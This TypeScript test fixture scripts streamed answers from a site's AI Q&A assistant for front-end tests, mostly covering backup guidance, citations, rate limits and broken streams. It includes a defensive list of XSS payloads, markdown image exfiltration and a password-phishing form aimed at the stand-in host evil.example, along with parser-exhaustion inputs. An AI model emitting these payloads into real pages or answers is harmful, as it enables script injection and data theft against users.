import type { AnswerSummary, Citation, StructuredResult } from '../../contract/articles/articles.ts';
import { token, type StreamEvent } from '../../contract/events.ts';
import type { SearchResults } from '../../contract/search.ts';
import { doneFrame, encodeFrame, heartbeatFrame } from '../../contract/frames.ts';
import { drawnText, longText } from './long-answer.ts';

/** One step of a scripted answer: text to send, a wait for the test's word, or how the connection ends. */
export type Step = string | { readonly hold: true } | { readonly end: 'close' | 'destroy' | 'hang' };

const hold: Step = { hold: true };
const send = (...events: StreamEvent[]): Step => events.map(encodeFrame).join('');

/** A text as a model writes it: in pieces of a few characters. */
const spoken = (text: string): Step => send(...(text.match(/.{1,6}/gsu) ?? []).map((piece) => token(piece)));

const state = (summary: AnswerSummary): StreamEvent => ({ event: 'answer_state', data: summary });
const logId = (id: string): StreamEvent => ({ event: 'logId', data: id });
const whole: Step[] = [doneFrame, { end: 'close' }];

export const zhCitations: Citation[] = [
  {
    postId: 'backup',
    title: '把站点备份好：数据库、附件与主题',
    url: '/articles/backup',
    anchor: 'restore',
    quote: '恢复之前请先停止服务，再把整个数据目录复制回原来的位置。',
    marks: 2,
  },
  {
    postId: 'upgrade',
    title: '升级前的检查清单',
    url: '/articles/upgrade',
    anchor: 'before',
    quote: '升级前先做一次完整备份。',
    marks: 1,
  },
  { postId: 'docker', title: '用 Docker 部署', url: '/articles/docker' },
];

const zhAnswer = `备份一个站点只需要**复制数据目录**，数据库、附件和主题都在里面 [1]。

1. 先停止服务，避免复制到写了一半的文件 [1]；
2. 复制整个目录，并记下当前的版本号；
3. 升级之前也要备份一次 [2]。

\`\`\`sh
docker compose stop
tar czf backup-$(date +%F).tar.gz data/
docker compose start
\`\`\`

| 内容 | 位置 | 必须备份 |
| --- | --- | --- |
| 数据库 | \`data/db\` | 是 |
| 附件 | \`data/attachments\` | 是 |
| 缓存 | \`data/cache\` | 否 |

恢复时把目录放回原处即可，细节见[备份文章](/articles/backup#restore)。`;

const enAnswer = `Backing up the site means **copying one folder**: the database, the attachments and the theme all live in it [1].

1. Stop the service first, so that no half-written file is copied [1].
2. Copy the whole folder and note the version you run.
3. Make another copy before every upgrade [2].

\`\`\`sh
docker compose stop
tar czf backup-$(date +%F).tar.gz data/
docker compose start
\`\`\`

To restore, put the folder back where it was.`;

export const enCitations: Citation[] = [
  {
    postId: 'backup',
    title: 'Backing up: database, attachments and theme',
    url: '/articles/backup',
    anchor: 'restore',
    quote: 'Stop the service before you restore, then copy the whole data folder back to where it was.',
    marks: 2,
  },
  {
    postId: 'upgrade',
    title: 'Before you upgrade',
    url: '/articles/upgrade',
    quote: 'Make a full backup first.',
    marks: 1,
  },
];

/** Result of the keyword search. */
export const foundArticles: SearchResults = {
  total: 3,
  source: 'lucene',
  articles: [
    {
      postId: 'backup',
      title: 'Backing up: database, attachments and theme',
      url: '/articles/backup',
      snippet:
        '…one <mark>backup</mark> that restores is worth more than ten &lt;never&gt; tried: stop the service…',
      score: 12.4,
      heading: 'Rehearsal',
      anchor: 'rehearsal',
      breadcrumbs: ['Restoring'],
    },
    {
      postId: 'upgrade',
      title: 'Before you upgrade',
      url: '/articles/upgrade',
      snippet: 'Make a full <mark>backup</mark> first.',
      score: 7.1,
    },
    { postId: 'docker', title: 'With Docker', url: '/articles/docker', snippet: '', score: 3 },
  ],
};

/** Result of a hostile index. */
export const hostileResults: SearchResults = {
  total: 3,
  source: 'lucene',
  articles: [
    {
      postId: 'x',
      title: '<img src=x onerror=alert(1)>',
      url: 'javascript:alert(1)',
      snippet: '<mark><script>alert(1)</script></mark><img src="https://evil.example/p.png">',
      score: 1,
    },
    { postId: 'y', title: 'Data', url: 'data:text/html,<script>alert(1)</script>', snippet: '', score: 1 },
    { postId: 'z', title: 'Fine', url: '/articles/backup', snippet: '&lt;b onclick=alert(1)&gt;', score: 1 },
  ],
};

const ranking: StructuredResult = {
  type: 'article-list',
  variant: 'ranking',
  title: '热门文章',
  description: '按浏览量从高到低排列',
  items: [
    {
      rank: 1,
      postId: 'backup',
      title: '把站点备份好：数据库、附件与主题',
      url: '/articles/backup',
      excerpt: '一份能真正恢复的备份应该包含什么，以及怎样在五分钟内把它演练一遍。',
      publishTime: '2026-09-12',
    },
    {
      rank: 2,
      postId: 'docker',
      title: '用 Docker 部署',
      url: '/articles/docker',
      excerpt: '一个 compose 文件、两个卷和一个反向代理。',
      publishTime: '2026-08-30',
    },
    { rank: 3, postId: 'theme', title: '换一套主题要注意什么', url: '', excerpt: '', publishTime: '' },
    {
      rank: 4,
      postId: 'seo',
      title: '让搜索引擎读懂你的文章',
      url: 'javascript:alert(1)',
      excerpt: '标题、摘要与结构化数据。',
      publishTime: '2026-07-02',
    },
  ],
};

/** Attacks in an answer. None may run or load anything from another origin. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![leak](https://evil.example/pixel.png?secret=1)',
  '![x](javascript:alert(1))',
  '[click](javascript:alert(1))',
  '[click](java&#x0A;script:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[your account](https://evil.example/login)',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '[ref]: https://evil.example/ref\n\n[ref]',
  '<a href="https://evil.example" onclick="alert(1)">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/bg)}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">cover</div>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>x</details>',
  '<a id=cookie></a><img name=body><form id=attributes>',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"onmouseover="alert(1)\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | ![y](https://evil.example/t.png) |',
  '# <img src=x onerror=alert(1)>',
  '> <iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '[a](<https://evil.example/" onmouseover="alert(1)>)',
  '$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlId{cookie}{x}$ $\\style{x:y}{z}$',
  '\u202Egnp.exe <img src=x onerror=alert(1)>',
];

/** Texts that make a careless Markdown reader recurse or backtrack without end. */
export const deepTexts = ['>', '[', '![', '*a ', '- ', '`', '<a ', '[1'].map(
  (piece) => `${piece.repeat(3000)} deep`,
);

const hostileCitations: Citation[] = [
  {
    postId: 'x',
    title: '<img src=x onerror=alert(1)>',
    url: 'javascript:alert(1)',
    quote: '<script>alert(1)</script>',
  },
  {
    postId: 'y',
    title: 'Data',
    url: 'data:text/html,<script>alert(1)</script>',
    anchor: '"><script>alert(1)</script>',
  },
  { postId: 'z', title: 'Fine', url: '/articles/backup', anchor: '"><img src=x onerror=alert(1)>' },
];

/** A list of articles, as each variant shows it. */
const listed = (variant: StructuredResult['variant']): Step[] => [
  send({ event: 'structured_result', data: { ...ranking, variant } }),
  spoken('按条件为你找到 4 篇文章。'),
  send(state({ answerState: 'answered' }), logId(`log-${variant}`)),
  ...whole,
];

/** Two statements on one article, each with its own passage, and one on another; the second article is not marked. */
export const quotedCitations: Citation[] = [
  { postId: 'backup', title: 'Backing up', url: '/articles/backup', anchor: 'what' },
  { postId: 'docker', title: 'With Docker', url: '/articles/docker' },
  { postId: 'upgrade', title: 'Before you upgrade', url: '/articles/upgrade' },
];

const quotedText =
  'Everything lives in one folder [1]. Stop the service first [1], and do it before an upgrade [3].';

const partialSummary: AnswerSummary = {
  answerState: 'partial',
  citations: quotedCitations,
  places: [
    {
      postId: 'docker',
      title: 'With Docker',
      url: '/articles/docker',
      heading: 'Volumes',
      anchor: 'volumes',
      line: 'Two volumes hold everything that must survive an upgrade.',
    },
    {
      postId: 'upgrade',
      title: 'Before you upgrade',
      url: '/articles/upgrade',
      line: 'Make a full backup first.',
    },
  ],
  suggestions: ['How do I restore a backup?', 'How often should I back up?'],
  notices: ['other_language'],
};

const richText = `**加粗。**后面的文字，以及“**引号**”之后[1]。

- [ ] 停止服务
- [x] 复制目录

| 名称 | 大小 |
| :--- | ---: |
| data | 12 |

A _slanted_ and a ~~struck~~ word.
`;

/** Answers by name; a test chooses one before it asks. */
export const scenarios = {
  zh: [
    send({ event: 'citations', data: zhCitations }),
    hold,
    spoken(zhAnswer),
    send(state({ answerState: 'answered' }), logId('log-zh')),
    ...whole,
  ],
  en: [
    send({ event: 'citations', data: enCitations }),
    hold,
    spoken(enAnswer),
    send(state({ answerState: 'answered' }), logId('log-en')),
    ...whole,
  ],
  slow: [spoken('The first words'), hold, spoken(' and the last.'), send(logId('log-slow')), ...whole],
  cut: [spoken('Half an answer that'), 'data:{"content":" never', hold, { end: 'destroy' }],
  garbage: [
    'data:{"content":"Before"}\n\n',
    ': a comment\n\nevent:unknown\ndata:{"a":1}\n\nevent:citations\ndata:not json\n\nevent:structured_result\ndata:[]\n\n',
    'data:{"content":{"deep":1}}\n\nretry:5\n\nid:7\n\n\n\n\u0000\n\n',
    'data:{"content":" and after."}\r\n\r\n',
    ...whole,
  ],
  silence: [spoken('A few words'), heartbeatFrame, { end: 'hang' }],
  hostile: [
    send({ event: 'citations', data: hostileCitations }),
    ...hostileTexts.map((text) => spoken(`${text}\n\n`)),
    spoken('The end [1][2][3].'),
    send(logId('log-hostile')),
    ...whole,
  ],
  deep: [...deepTexts.map((text) => send(token(`${text}\n\n`))), spoken('The end'), ...whole],
  limited: [
    spoken('⚠️ 今天的提问次数已用完，请稍后再试。'),
    send(state({ answerState: 'limited', retryAfterSeconds: 1800 })),
    ...whole,
  ],
  siteLimited: [
    spoken('⚠️ Today’s AI quota of this site is used up. Please come back tomorrow.'),
    send(state({ answerState: 'limited', limit: 'site', retryAfterSeconds: 30_000 })),
    ...whole,
  ],
  disabled: [send({ event: 'error', data: '本站的访客问答已关闭。' }), ...whole],
  structured: [
    send({ event: 'citations', data: zhCitations }, { event: 'structured_result', data: ranking }),
    hold,
    spoken('按浏览量为你找到 4 篇热门文章。'),
    send(logId('log-structured')),
    ...whole,
  ],
  reasoning: [
    send(
      { event: 'reasoning_start', data: {} },
      { event: 'reasoning_delta', data: { content: '用户想知道怎样备份。\n' } },
    ),
    hold,
    send(
      { event: 'reasoning_delta', data: { content: '先看备份文章，再看升级清单。' } },
      { event: 'reasoning_end', data: {} },
    ),
    spoken('复制数据目录即可。'),
    send(logId('log-reasoning')),
    ...whole,
  ],
  notCovered: [
    spoken('本站已发布的文章里没有介绍怎样训练猫。'),
    send(state({ answerState: 'not_covered', nearest: zhCitations.slice(1) }), logId('log-none')),
    ...whole,
  ],
  math: [
    spoken('The price $x_1 * y_1 * z$ is:\n\n$$\n\\sum_{i=1}^{n} a_i\n$$\n\nand no more.'),
    send(logId('log-math')),
    ...whole,
  ],
  empty: whole,
  latest: listed('latest'),
  ranked: listed('ranking'),
  tagged: listed('tag'),
  filed: listed('category'),
  recommended: listed('recommendation'),
  quoted: [
    send({ event: 'citations', data: quotedCitations }),
    hold,
    spoken(quotedText),
    send(
      state({
        answerState: 'answered',
        citations: quotedCitations,
        quotes: [
          {
            mark: 1,
            article: 1,
            quote: 'The database, the attachments and the theme live in the data folder.',
            anchor: 'what',
          },
          {
            mark: 2,
            article: 1,
            quote:
              'Stop the service before you restore, then copy the whole data folder back to where it was.',
            anchor: 'restore',
          },
          { mark: 3, article: 3, quote: 'Make a full backup first.' },
        ],
      }),
      logId('log-quoted'),
    ),
    ...whole,
  ],
  partial: [
    send({ event: 'citations', data: quotedCitations }),
    spoken(`${quotedText}\n\n${'A sentence that is being read while the answer ends. '.repeat(6)}`),
    hold,
    send(state(partialSummary), logId('log-partial')),
    ...whole,
  ],
  smallTalk: [
    spoken('Hello! I answer questions about this site.'),
    send(
      state({
        answerState: 'answered',
        kind: 'small_talk',
        suggestions: ['How do I back up?', 'How do I install it?'],
      }),
      logId('log-hello'),
    ),
    ...whole,
  ],
  failed: [
    send({ event: 'citations', data: quotedCitations }),
    spoken('The count is half wri⚠️ The assistant is unavailable. Please try again.'),
    send(state({ answerState: 'failed' }), logId('log-failed')),
    ...whole,
  ],
  rich: [
    send({ event: 'citations', data: zhCitations }),
    spoken(richText),
    send(state({ answerState: 'answered' }), logId('log-rich')),
    ...whole,
  ],
  wide: [
    spoken(
      'The causes are these:\n\n| Symptom | Likely cause | Remedy | Time lost | Notes from our bench |\n| --- | --- | --- | ---: | --- |\n' +
        '| Sour | under-extracted | a finer grind and hotter water | 2 min | begin with the grind and leave the rest |\n\n' +
        '| One | Two |\n| --- | --- |\n| 1 | 2 |\n',
    ),
    send(
      logId('log-wide'),
      state({
        answerState: 'answered',
        suggestions: ['How do I restore a backup?', 'How often should I back up?'],
      }),
    ),
    ...whole,
  ],
  escaped: [
    send({ event: 'citations', data: enCitations }),
    spoken('Write &lt;script&gt; and `&lt;b&gt;` [1].'),
    send(state({ answerState: 'answered' }), logId('log-escaped')),
    ...whole,
  ],
  drawn: [
    send({ event: 'citations', data: enCitations }),
    spoken(drawnText),
    send(state({ answerState: 'answered' }), logId('log-drawn')),
    ...whole,
  ],
  long: [
    send({ event: 'citations', data: enCitations }),
    hold,
    ...(longText.match(/[^]{1,24}/gu) ?? []).flatMap((piece): Step[] => [send(token(piece)), hold]),
    send(state({ answerState: 'answered' }), logId('log-long')),
    ...whole,
  ],
} satisfies Record<string, Step[]>;

export type Scenario = keyof typeof scenarios;
